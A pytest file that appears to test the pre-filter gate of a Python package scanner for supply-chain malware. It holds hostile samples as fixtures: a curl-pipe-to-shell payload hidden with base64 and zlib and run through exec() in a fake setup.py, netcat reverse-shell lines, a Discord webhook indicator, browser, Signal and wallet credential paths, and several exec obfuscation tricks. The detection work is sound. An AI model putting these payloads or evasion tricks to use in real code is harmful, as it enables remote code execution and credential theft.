"""The text gate in front of the Python scanner: files it passes over really hold nothing to find."""

from __future__ import annotations

import base64
import sysconfig
import zlib
from pathlib import Path

import pytest

from chainwatch.packages import pygate
from chainwatch.packages import signals as sg
from chainwatch.packages.pyscan import PyScanner
from tests.packages.helpers import facts_of, sdist, verdict

PLAIN = '''"""Shape helpers."""
import math
from typing import Sequence


def flat_size(shape: Sequence[int]) -> int:
    return math.prod(shape)


class Layer:
    def __init__(self, units: int) -> None:
        self.units = units
        self.pattern = re.compile(r"[a-z]+")  # an attribute, not the builtin

    def build(self, shape):
        return [flat_size(shape), self.units]
'''


def _full_scan_signals(text: str) -> list[str]:
    """Every signal the scanner gives ``text`` as install-time code (the phase that reports the most)."""
    return [s.kind for s in PyScanner("m.py", text, sg.INSTALL, all_install=True).scan() if s.kind != sg.PARSE_ERROR]


def test_plain_code_is_quiet_and_really_silent() -> None:
    assert pygate.quiet_reason(PLAIN) is None
    assert _full_scan_signals(PLAIN) == []


def test_every_api_name_the_scanner_looks_for_keeps_a_gate_word() -> None:
    words = pygate.gate_words()
    for name in pygate._table_names():
        if name in ("dict", "loads"):  # dict(os.environ), marshal.loads: the other name decides
            continue
        parts = [p for p in name.split(".") if p]
        assert any(p in words for p in parts), name


PAYLOAD = "import os\nos.system('curl -s http://203.0.113.7/x | sh')\n"
B64 = base64.b64encode(zlib.compress(PAYLOAD.encode())).decode()


@pytest.mark.parametrize("text", [
    "x = compile(src, 'f', 'exec')\n",                                   # the builtin, bare
    "import subprocess\n",                                                # a module the scanner resolves
    "f = getattr(mod, name)\n",                                           # dynamic lookup
    "URL = 'https://discord.com/api/webhooks/123456789/abcdefghijklmnopqrstuvwxyz'\n",  # an indicator
    "URL = 'https://disc\\x6frd.com/api/webhooks/123456789/abcdefghijklmnopqrstuvwx'\n",  # hidden by an escape
    f"BLOB = '{B64}'\n",                                                  # an encoded payload
    "BLOB = (" + " ".join(f"'{B64[i:i + 12]}'" for i in range(0, len(B64), 12)) + ")\n",  # joined from pieces
    "CODES = [105, 109, 112, 111, 114, 116, 32, 111, 115]\n",            # character codes
    "CODES = (0x69, 0x6d, 0x70, 0x6f, 0x72, 0x74, 0x20, 0x6f)\n",
    "out.write('import os\\nos.remove(path)  # a script written to disk')\n",  # code written to a file
    "\u0441\u043e\u0434\u0435 = 1\n",                                       # non-ASCII identifiers
    "x = 1  # \u202e hidden\n",                                          # bidi control
    "import os\nos.replace(src, dst)\n",
    "f = getattr(os, 'system')\n",                                     # a name the scanner knows
    "f = getattr(os, 'sys' 'tem')\n",                                  # a name joined from pieces
    "f = getattr(load(), 'run')\n",                                    # a call as the receiver
    "g = getattr\nf = g(os, 'x')\n",                                  # the builtin under another name
    "run = vars(mod)['ex' + 'ec']\n",                                  # a namespace read by key
    "run = globals() ['exec']\n",
    "ns = locals\n",
])
def test_what_needs_a_tree(text: str) -> None:
    assert pygate.quiet_reason(text) is not None, text


def test_gate_words_stay_off_attribute_uses() -> None:
    assert pygate.quiet_reason("import re\nP = re.compile('x')\nm.eval()\n") is None
    assert pygate.quiet_reason("P = compile('x', 'f', 'exec')\n") is not None


def _stdlib_files() -> list[Path]:
    root = Path(sysconfig.get_paths()["stdlib"])
    files = sorted(p for p in root.glob("*.py"))
    files += sorted(root.glob("json/*.py")) + sorted(root.glob("email/*.py")) + sorted(root.glob("unittest/*.py"))
    return files


def test_standard_library_files_the_gate_passes_over_give_no_signal() -> None:
    """The soundness check on real code: the full scanner, run on every file the gate calls quiet."""
    files = _stdlib_files()
    if len(files) < 100:
        pytest.skip(f"standard library sources not found under {sysconfig.get_paths()['stdlib']}")
    quiet = [p for p in files if pygate.quiet_reason(p.read_text("utf-8", "replace")) is None]
    assert 20 <= len(quiet) < len(files)
    loud = {p.name: _full_scan_signals(p.read_text("utf-8", "replace")) for p in quiet}
    assert {name: kinds for name, kinds in loud.items() if kinds} == {}


def test_package_skips_quiet_files_and_still_judges_the_rest() -> None:
    data = sdist("shapes", "1.0.0", {
        "shapes/__init__.py": "from .util import flat_size\n",
        "shapes/util.py": PLAIN,
        "setup.py": "import os\nfrom setuptools import setup\n"
                    f"exec(__import__('zlib').decompress(__import__('base64').b64decode('{B64}')))\n"
                    "setup(name='shapes')\n",
    })
    facts = facts_of(data)
    assert facts.quiet_files == 2  # util.py and __init__.py
    assert facts.to_dict()["quiet_files"] == 2
    result, top = verdict(data)
    assert result == "malicious", top


@pytest.mark.parametrize("text", [
    r"C:\Users\x\AppData\Roaming\Opera Software\Opera Stable\Login Data",
    "~/.config/BraveSoftware/Brave-Browser/Default/Cookies",
    r"AppData\Roaming\Signal\config.json", "/home/u/.config/Signal/config.json",
    "/home/u/.bash_history", "nc -e /bin/sh 203.0.113.7 4444", "ncat -e /bin/sh 203.0.113.7 4444",
    "/home/u/.config/solana/id.json",  # the Solana CLI's keypair (the pattern wanted ".solana/id.json")
])
def test_indicator_gate_keywords_still_open_the_patterns(text: str) -> None:
    from chainwatch.packages import indicators as ind

    assert ind.hot_offsets(text)
    assert ind.text_signals(text) or ind.persistence_targets(text), text


def test_indicator_gate_keywords_skip_ordinary_words() -> None:
    from chainwatch.packages import indicators as ind

    assert ind.hot_offsets("concatenate the operation history; send a signal") == []


LICENSED = '''# Copyright 2024 The Authors. Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License. You may obtain a copy at
#     http://www.apache.org/licenses/LICENSE-2.0
"""Losses. Install the extras with ``pip install shapes[ops]``; see https://example.org/docs/losses."""
import math


class Loss:
    def compile(self, reduction="sum"):  # a method named like the builtin is no call of it
        """Pick the reduction: 'sum' over the batch, or "mean" (the operating system does not matter)."""
        self.reduction = reduction
        return math.fsum
'''


def test_names_in_comments_and_docstrings_leave_a_file_quiet() -> None:
    assert pygate.quiet_reason(LICENSED) is None
    assert _full_scan_signals(LICENSED) == []
    assert pygate.quiet_reason(LICENSED + "import http.client\n") == "names http"
    assert pygate.quiet_reason(LICENSED + "fn = compile(src, 'f', 'exec')\n") == "calls compile"
    assert pygate.quiet_reason(LICENSED + "x = f'{os.system(cmd)}'\n") == "names system"  # an f-string is code


@pytest.mark.parametrize("text", [
    "x = f\"{d['k']}\"  # see http://example.org\n",       # a quote inside a field: code from here on
    "x = f\"{'\"'}\"; __import__('os')  # '\n",            # Python 3.12 ends this f-string after the field
    "x = f'''{y\n}''' if z else 'http://example.org'\n",  # a line end inside a field
])
def test_fstrings_the_gate_cannot_follow_make_the_rest_code(text: str) -> None:
    assert pygate.quiet_reason(text) is not None


def test_fstring_literal_parts_are_prose_and_fields_code() -> None:
    assert pygate.quiet_reason("msg = f'see http://example.org for {name}'\n") is None
    assert pygate.quiet_reason("msg = f'see {os.system(cmd)}'\n") == "names system"
    assert pygate.quiet_reason("msg = f'处理 {name} 完成'\n") is None
    assert pygate.quiet_reason("msg = f'{处理}'\n") == "non-ASCII letters"


def test_setattr_alone_needs_no_tree() -> None:
    """The scanner resolves reads (``getattr``, ``vars()[...]``), never ``setattr``: a file that only sets
    attributes by name gives it nothing to find (126 such files in the evaluation sets, all silent)."""
    text = "import os\n\n\nclass Config:\n    def load(self, items):\n        for k, v in items:\n" \
           "            setattr(self, k, os.path.expandvars(v))\n"
    assert pygate.quiet_reason(text) is None
    assert _full_scan_signals(text) == []
    assert pygate.quiet_reason(text.replace("setattr(self, k,", "getattr(self, k)(")) == "calls getattr"


@pytest.mark.parametrize("text", [
    "import numpy as np\n\n\ndef dtype_of(x):\n    return getattr(x, 'dtype', type(x))\n",
    "class A:\n    def size(self):\n        return getattr(self.inner, \"shape\", None)\n",
    "def fields(obj):\n    return {k: v for k, v in vars(obj).items() if not k.startswith('_')}\n",
    "def names():\n    return sorted(globals())\n",
])
def test_plain_lookups_need_no_tree(text: str) -> None:
    """A getattr with a plain receiver and a name literal that is no gate word resolves to words the gate
    reads anyway; vars(), globals() and locals() name something only when read by key. 31 of keras's 169
    gated files were held by such lookups alone."""
    assert pygate.quiet_reason(text) is None
    assert _full_scan_signals(text) == []
    assert pygate.quiet_reason(text.replace("'dtype'", "'system'").replace('"shape"', "'popen'")
                               .replace("vars(obj)", "vars(obj)['x']").replace("globals()", "globals()['x']")) \
        is not None


def test_namespace_reads_resolve_and_other_keyed_reads_do_not() -> None:
    """``globals()["exec"]`` is the builtin; ``config()["exec"]`` is whatever the config holds (the gate
    relies on this: a key read from an ordinary call's value names nothing)."""
    run = "import base64\nf = {ns}['exec']\nf(base64.b64decode(blob))\n"
    for ns in ("globals()", "vars(__builtins__)", "__builtins__.__dict__"):
        assert _full_scan_signals(run.format(ns=ns)) == [sg.OBF_ALIAS, sg.EXEC_DECODED], ns
    assert _full_scan_signals(run.format(ns="load_config()")) == []
